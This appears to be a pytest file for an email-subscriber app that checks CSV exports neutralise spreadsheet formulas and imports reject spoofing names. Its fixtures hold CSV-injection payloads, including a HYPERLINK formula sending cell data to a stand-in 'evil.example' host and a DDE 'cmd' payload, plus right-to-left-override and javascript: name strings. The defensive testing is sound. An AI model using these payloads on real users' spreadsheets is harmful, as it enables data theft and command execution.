"""Data crossing the edge: what a CSV export hands to a spreadsheet, what any way in (signup, import, API,
CLI) lets into a subscriber's name and address, and how a name or subject is written into a header."""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, datetime
from email import message_from_bytes, policy
from email.header import decode_header, make_header
from email.message import Message
from pathlib import Path

import pytest
from click.testing import CliRunner
from sqlalchemy import select

from nurture.cli import main
from nurture.core.db import transaction
from nurture.mail.compose import Envelope, compose
from nurture.mail.templates import RenderedEmail
from nurture.models import Subscriber
from nurture.subscribers import importer
from nurture.subscribers.signup import FieldErrors, parse_signup
from tests.support.staff import csrf_of


def run(*args: str) -> object:
    return CliRunner().invoke(main, list(args), catch_exceptions=False)


def emails_and_names(factory) -> dict[str, str | None]:  # type: ignore[no-untyped-def]
    with transaction(factory) as session:
        return dict(session.execute(select(Subscriber.email, Subscriber.first_name)).all())


# --- item 3: spreadsheet formulas in CSV exports --------------------------------------------------------

# Stored before any check refused them (or by a future way in): the export must be safe whatever is stored.
FORMULA_NAMES = {
    "a@example.com": '=HYPERLINK("https://evil.example/?d="&B3,"Open")',
    "b@example.com": "+1+cmd|' /C calc'!A0",
    "c@example.com": "-2+3",
    "d@example.com": "@SUM(A1:A9)",
    "e@example.com": "\tTab",
    "f@example.com": "\rReturn",
}
DANGEROUS_START = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def formula_people(world):  # type: ignore[no-untyped-def]
    with transaction(world) as session:
        for email, name in FORMULA_NAMES.items():
            session.add(Subscriber(email=email, first_name=name, status="active"))
        session.add(Subscriber(email="-dash@example.com", first_name="Plain", status="active"))
    return world


def assert_no_formula_cells(data: str) -> list[dict[str, str]]:
    rows = list(csv.DictReader(io.StringIO(data, newline="")))
    assert rows, data
    for row in rows:
        for column, value in row.items():
            assert not value.startswith(DANGEROUS_START), (column, value)
    names = {row["email"]: row["first_name"] for row in rows}
    for email, name in FORMULA_NAMES.items():
        assert names[email] == "'" + name  # OWASP: a leading quote makes the cell text
    assert "'-dash@example.com" in names
    return rows


def test_admin_and_api_csv_exports_neutralise_formula_cells(formula_people, signed_in, api) -> None:  # type: ignore[no-untyped-def]
    admin_export = signed_in("editor").get("/admin/subscribers.csv")
    assert admin_export.status_code == 200, admin_export.text
    assert_no_formula_cells(admin_export.text)
    api_export = api("editor", "GET", "/api/v1/subscribers.csv")
    assert api_export.status_code == 200, api_export.text
    assert_no_formula_cells(api_export.text)


def test_cli_csv_export_neutralises_formula_cells(formula_people, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    path = tmp_path / "out.csv"
    result = run("subscribers", "export", str(path))
    assert result.exit_code == 0, result.output  # type: ignore[attr-defined]
    assert_no_formula_cells(path.read_bytes().decode())  # bytes: no newline translation


ROUND_TRIP = {
    "-dash@example.com": "-Ana",
    "+plus@example.com": "=Bo",
    "=eq@example.com": "'=Cy",  # a real leading quote before a formula character: kept, not eaten
    "quote@example.com": "'Dee",
    "plain@example.com": "Eve",
}


def test_an_export_read_back_by_the_importer_gives_the_stored_values(world, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    with transaction(world) as session:
        for email, name in ROUND_TRIP.items():
            session.add(Subscriber(email=email, first_name=name, status="active"))
    path = tmp_path / "out.csv"
    assert run("subscribers", "export", str(path)).exit_code == 0  # type: ignore[attr-defined]
    rows, errors = importer.read_csv(path.read_bytes())
    assert errors == []
    assert {row.email: row.first_name for row in rows} == ROUND_TRIP


# --- item 7: one check of a person's address, name and time zone, whatever the way in --------------------

BAD_NAMES = [
    "=?utf-8?b?QW5h?=",  # an RFC 2047 encoded word
    "Ana\u202egnp.exe",  # right-to-left override
    "Ana\u2066x\u2069",  # direction isolates
    "An\u200ba",  # zero-width space (Cf)
    "Ana\u200f",  # right-to-left mark (Cf)
    "https://evil.example/login",
    "Visit www.evil.example",
    "evil.example/login",
    "evil.com",
    "javascript:alert(1)",
    "ana@evil.example",
]
GOOD_NAMES = ["Zoë", "Mary-Jane O'Neil", "J. R.", "José María", "Ana (she/her)", "مهر\u200cنوش", "山田"]


def bad_people_csv() -> bytes:
    rows = ["email,first_name,timezone"]
    rows += [f"bad{i}@example.com,{name}," for i, name in enumerate(BAD_NAMES)]
    rows += [
        "ü@example.com,Ulla,",  # non-ASCII local part: needs SMTPUTF8, which nurture does not speak
        "tz@example.com,Tess,posix/Europe/Paris",  # not a zone the signup form offers
    ]
    rows += [f"good{i}@example.com,{name},Europe/Paris" for i, name in enumerate(GOOD_NAMES)]
    rows += ["idn@Bücher.example,Ida,"]
    return ("\n".join(rows) + "\n").encode()


BAD_LINES = range(2, 2 + len(BAD_NAMES) + 2)
ACCEPTED = {
    **{f"good{i}@example.com": name for i, name in enumerate(GOOD_NAMES)},
    "idn@xn--bcher-kva.example": "Ida",  # the domain in IDNA form, as plain SMTP carries it
}


def test_the_importer_refuses_what_the_signup_form_refuses() -> None:
    rows, errors = importer.read_csv(bad_people_csv())
    assert {row.email: row.first_name for row in rows} == ACCEPTED
    assert [error.line for error in errors] == list(BAD_LINES)
    for error in errors[: len(BAD_NAMES)]:
        assert error.message.startswith("first_name: "), error
    assert errors[-2].message.startswith("email: ") and "@-sign" in errors[-2].message
    assert errors[-1].message.startswith("timezone: ")


def test_cli_import_reports_row_and_field_and_skips_the_bad_rows(world, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    path = tmp_path / "people.csv"
    path.write_bytes(bad_people_csv())
    result = run("subscribers", "import", str(path), "--sequence", "course", "--consent-source", "webinar")
    output = result.output  # type: ignore[attr-defined]
    assert result.exit_code == 1, output  # type: ignore[attr-defined]
    assert "line 2: bad0@example.com: first_name: " in output
    assert "line 7: bad5@example.com: first_name: must not be a web address" in output
    assert emails_and_names(world) == ACCEPTED


def test_web_and_api_imports_refuse_the_bad_rows(world, signed_in, api) -> None:  # type: ignore[no-untyped-def]
    editor = signed_in("editor")
    page = editor.post(
        "/admin/import",
        data={"csrf": csrf_of(editor, "/admin/import"), "sequence": "course", "consent_source": "webinar"},
        files={"file": ("people.csv", bad_people_csv(), "text/csv")},
    )
    assert page.status_code == 200, page.text
    assert f"Rows refused: {len(BAD_LINES)}" in page.text
    assert emails_and_names(world) == ACCEPTED
    answer = api(
        "editor",
        "POST",
        "/api/v1/subscribers/import?sequence=course&consent_source=webinar",
        content=bad_people_csv(),
        headers={"Content-Type": "text/csv"},
    )
    assert answer.status_code == 200, answer.text
    errors = answer.json()["errors"]
    assert [e["line"] for e in errors] == list(BAD_LINES)
    assert errors[0]["message"].startswith("first_name: ")
    assert emails_and_names(world) == ACCEPTED


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["ana@example.com", "--name", "https://evil.example"], "first_name: must not be a web address"),
        (["ana@example.com", "--name", "=?utf-8?q?Ana?="], "first_name: "),
        (["ana@example.com", "--name", "Ana\u202e"], "first_name: "),
        (["ü@example.com", "--name", "Ulla"], "email: "),
        (["ana@example.com", "--tz", "posix/Europe/Paris"], "timezone: "),
    ],
)
def test_cli_add_refuses_what_the_signup_form_refuses(world, args: list[str], message: str) -> None:  # type: ignore[no-untyped-def]
    result = CliRunner().invoke(main, ["subscribers", "add", *args])
    assert result.exit_code == 1 and message in result.output, result.output
    assert emails_and_names(world) == {}


def test_cli_add_stores_an_internationalised_domain_in_idna_form(world) -> None:  # type: ignore[no-untyped-def]
    result = run("subscribers", "add", "Ida@Bücher.example", "--name", "Ida")
    assert result.exit_code == 0, result.output  # type: ignore[attr-defined]
    assert emails_and_names(world) == {"ida@xn--bcher-kva.example": "Ida"}


SIGNUP = {"email": "ana@example.com", "consent": "yes"}


@pytest.mark.parametrize("name", BAD_NAMES)
def test_the_signup_form_refuses_links_and_hidden_characters_in_names(name: str) -> None:
    with pytest.raises(FieldErrors) as caught:
        parse_signup({**SIGNUP, "first_name": name}, default_source="hosted-form")
    assert set(caught.value.errors) == {"first_name"}


def test_the_signup_form_takes_an_internationalised_domain_in_idna_form() -> None:
    form = parse_signup({**SIGNUP, "email": "ana@bücher.example"}, default_source="hosted-form")
    assert form.email == "ana@xn--bcher-kva.example"


# --- item 9: long or non-ASCII names and subjects are folded into short encoded words --------------------

ENCODED_WORD = re.compile(r"=\?[^?\s]+\?[bBqQ]\?[^?\s]*\?=")
LONG_NAME = "Zoë Ünïcode-Łukasiewicz Żółć Gęślą Jaźń Ðorđe Čačić Šimić Øyvind Åsmund Brønnøysund"
SUBJECT = "Bienvenue — votre première leçon : ce qu'il faut savoir avant de commencer, étape par étape"
FROM = "Clinique Saint-Éloi — Équipe d'accompagnement thérapeutique de Montréal <hello@clinic.test>"


def headers_of(raw: bytes) -> list[str]:
    head = raw.split(b"\r\n\r\n", 1)[0].decode("ascii")
    return head.split("\r\n")


def decoded(message: Message, name: str) -> str:
    """The header as an RFC 2047 reader shows it. policy.default's address parser keeps the space between
    two adjacent encoded words of a display name (CPython's DisplayName.ew_combine_allowed = False, even for
    what its own generator writes), where RFC 2047 6.2 says to ignore it; email.header decodes by the RFC."""
    raw = message.get_all(name)
    assert raw is not None and len(raw) == 1
    return str(make_header(decode_header(raw[0].replace("\r\n", ""))))


@pytest.mark.parametrize("name", [LONG_NAME, "日本語の名前" * 8, "Bartholomew " * 8 + "Smith"])
def test_long_names_and_subjects_fold_into_words_and_lines_within_the_limits(name: str) -> None:
    envelope = Envelope(
        from_address=FROM,
        to_address="zoe@example.com",
        to_name=name,
        message_id="<1@clinic.test>",
        date=datetime(2026, 12, 7, 15, 0, tzinfo=UTC),
    )
    raw = compose(RenderedEmail(SUBJECT, "text", "<p>html</p>"), envelope)
    message = message_from_bytes(raw, policy=policy.default)
    assert message["To"].addresses[0].addr_spec == "zoe@example.com"
    assert message["From"].addresses[0].addr_spec == "hello@clinic.test"
    assert message["Subject"] == SUBJECT
    assert not message.defects and not message["To"].defects and not message["From"].defects
    legacy = message_from_bytes(raw, policy=policy.compat32)
    assert decoded(legacy, "To") == f"{name} <zoe@example.com>"
    assert decoded(legacy, "From") == FROM
    assert decoded(legacy, "Subject") == SUBJECT
    lines = headers_of(raw)
    folded = [line for line in lines if not line.startswith(("Content-Type:", "Message-ID:"))]
    for line in folded:
        assert len(line) <= 78, line
        for word in ENCODED_WORD.findall(line):
            assert len(word) <= 75, word
    assert sum(line.startswith(" ") for line in lines) >= 3  # continuation lines, each starting a space


def test_short_ascii_headers_are_written_as_before() -> None:
    envelope = Envelope(
        from_address="Clinic Team <hello@clinic.test>",
        to_address="ana@example.com",
        to_name="Ana",
        message_id="<1@clinic.test>",
        date=datetime(2026, 12, 7, 15, 0, tzinfo=UTC),
    )
    lines = headers_of(compose(RenderedEmail("Welcome", "t", "<p>h</p>"), envelope))
    assert lines[:3] == [
        "From: Clinic Team <hello@clinic.test>",
        "To: Ana <ana@example.com>",
        "Subject: Welcome",
    ]
